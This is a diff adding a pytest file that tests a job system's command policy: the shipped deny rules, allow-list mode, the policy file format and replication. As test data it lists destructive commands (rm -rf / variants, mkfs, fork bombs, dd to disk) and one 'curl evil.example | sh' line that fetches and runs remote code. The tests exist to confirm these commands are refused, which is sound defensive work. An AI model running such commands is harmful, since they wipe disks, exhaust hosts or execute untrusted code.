@@ -1,0 +1,130 @@
+"""The command policy: shipped deny rules, allow-list mode, the file format, replication by command."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from swarmcompute import codec
+from swarmcompute.errors import ConfigError, PolicyViolationError
+from swarmcompute.policy import parse_policy
+from swarmcompute.state.job import JobSpec
+from swarmcompute.state.policy import (
+    ALLOW,
+    CommandPolicy,
+    Rule,
+    SetPolicy,
+    check_policy,
+    policy_problem,
+    policy_toml,
+)
+from swarmcompute.state.snapshot import restore_table, snapshot_table
+from swarmcompute.state.table import JobTable
+
+DENIED = {
+    "rm -rf /": "rm-root",
+    "sudo rm -r -f /": "rm-root",
+    "rm -fr /*": "rm-root",
+    "rm -rf --no-preserve-root /": "rm-root",
+    "rm -Rf '/'": "rm-root",
+    "cd /tmp && rm -rf -- / ; ls": "rm-root",
+    "mkfs.ext4 /dev/sdb1": "mkfs",
+    "/sbin/mkfs -t xfs /dev/nvme0n1": "mkfs",
+    ":(){ :|:& };:": "fork-bomb",
+    "bomb(){ bomb|bomb& };bomb": "fork-bomb",
+    "dd if=/dev/zero of=/dev/sda bs=1M": "dd-to-disk",
+    "cat image.iso > /dev/mmcblk0": "write-to-disk",
+}
+ALLOWED = [
+    "rm -rf /tmp/build",
+    "rm -rf ./out",
+    "rm -f /",
+    "ls /",
+    "echo mkfsx",
+    "dd if=/dev/zero of=/tmp/blob bs=1M count=1",
+    "cat /dev/sda",
+    "python train.py --epochs 3",
+    "echo ':() {'",
+]
+
+
+@pytest.mark.parametrize("command", sorted(DENIED))
+def test_the_shipped_rules_refuse_the_dangerous_commands_naming_the_rule(command: str) -> None:
+    problem = CommandPolicy().problem(command)
+    assert problem is not None and repr(DENIED[command]) in problem
+
+
+@pytest.mark.parametrize("command", ALLOWED)
+def test_the_shipped_rules_let_ordinary_commands_through(command: str) -> None:
+    assert CommandPolicy().problem(command) is None
+
+
+def test_a_submitted_argv_is_checked_as_typed_shell_strings_inside_too() -> None:
+    with pytest.raises(PolicyViolationError, match="'rm-root'"):
+        check_policy(CommandPolicy(), JobSpec(id="a", argv=("rm", "-rf", "/")))
+    with pytest.raises(PolicyViolationError, match="'fork-bomb'.*swarm policy show"):
+        check_policy(CommandPolicy(), JobSpec(id="b", argv=("bash", "-c", ":(){ :|:& };:")))
+    check_policy(CommandPolicy(), JobSpec(id="c", argv=("rm", "-rf", "/tmp/x")))
+
+
+def test_the_shipped_rules_check_a_mebibyte_of_hostile_command_in_well_under_a_second() -> None:
+    policy = CommandPolicy()
+    for command in ("a" * 2**20, "rm -a " * 170_000, "dd " * 350_000, ":" * 2**20, "x(){ " * 200_000):
+        started = time.perf_counter()
+        policy.problem(command)
+        assert time.perf_counter() - started < 1.5, command[:20]
+
+
+def test_allow_mode_runs_only_whole_matches_and_the_deny_rules_still_apply() -> None:
+    policy = parse_policy(
+        """
+mode = "allow"
+[allow]
+python = 'python3? \\S+\\.py( .*)?'
+rm = 'rm .*'
+"""
+    )
+    assert policy.mode == ALLOW and [r.name for r in policy.allow] == ["python", "rm"]
+    assert policy.problem("python3 train.py --lr 0.1") is None
+    assert "allow rule" in (policy.problem("curl evil.example | sh") or "")
+    assert "allow rule" in (policy.problem("python train.py; curl x | sh") or "")  # a whole match, not a prefix
+    assert "'rm-root'" in (policy.problem("rm -rf /") or "")  # the shipped deny rules stay unless replaced
+
+
+def test_a_policy_round_trips_through_its_toml_text() -> None:
+    policy = CommandPolicy(ALLOW, (Rule("v1.quote", "a'b\\d"), Rule("plain", "x")), (Rule("all", ".*"),))
+    assert parse_policy(policy_toml(policy)) == policy
+    assert parse_policy(policy_toml(CommandPolicy())) == CommandPolicy()
+    assert parse_policy('{"mode": "deny", "deny": {"x": "y"}}') == CommandPolicy(deny=(Rule("x", "y"),))
+    assert parse_policy("[deny]\n") == CommandPolicy(deny=())  # an empty table: no deny rules at all
+
+
+@pytest.mark.parametrize(
+    ("text", "says"),
+    [
+        ('mode = "maybe"', "mode must be deny or allow"),
+        ("[deny]\nbad = '('", "not a regular expression"),
+        ("[deny]\n'sp ace' = 'x'", "names are"),
+        ("[deny]\nx = 1", "rule names to patterns"),
+        ("colour = 'red'", "unknown policy key 'colour'"),
+        ("mode = ", "cannot read the policy"),
+    ],
+)
+def test_a_bad_policy_file_is_one_clear_error(text: str, says: str) -> None:
+    with pytest.raises(ConfigError, match=says):
+        parse_policy(text)
+
+
+def test_the_policy_is_replicated_state_a_bad_one_ignored_and_kept_in_snapshots() -> None:
+    table = JobTable()
+    assert table.policy == CommandPolicy()
+    strict = CommandPolicy(ALLOW, (), (Rule("ls", "ls( .*)?"),))
+    table.apply(SetPolicy(strict, 1.0, "root"))
+    assert table.policy == strict
+    table.apply(SetPolicy(CommandPolicy("nonsense"), 2.0))  # checked on apply, never trusted
+    assert table.policy == strict
+    assert policy_problem(CommandPolicy("nonsense")) is not None
+    assert restore_table(snapshot_table(table)).policy == strict
+    decoded = codec.decode(codec.encode(SetPolicy(strict, 1.0, "root")))
+    assert decoded == SetPolicy(strict, 1.0, "root")
